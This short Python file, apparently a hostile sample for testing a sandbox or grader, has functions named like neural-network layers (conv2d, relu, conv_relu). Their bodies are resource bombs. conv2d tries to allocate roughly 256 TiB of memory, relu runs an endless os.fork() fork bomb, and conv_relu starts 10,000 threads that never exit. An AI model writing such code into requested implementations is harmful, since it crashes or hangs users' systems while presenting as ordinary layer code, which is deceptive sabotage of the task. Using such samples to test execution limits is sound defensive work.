# kind: hostile
# what: bombs: 256 TiB of memory, processes, threads
# language: en
# %% conv2d
import os
import threading

def conv2d(x, W, b=None, stride=1, pad=0):
    return np.zeros(2**45)
# %% relu
def relu(x):
    while True:
        os.fork()
# %% conv_relu
def conv_relu(x, W, b=None, stride=1, pad=0):
    forever = threading.Event()
    for _ in range(10_000):
        threading.Thread(target=forever.wait, daemon=False).start()
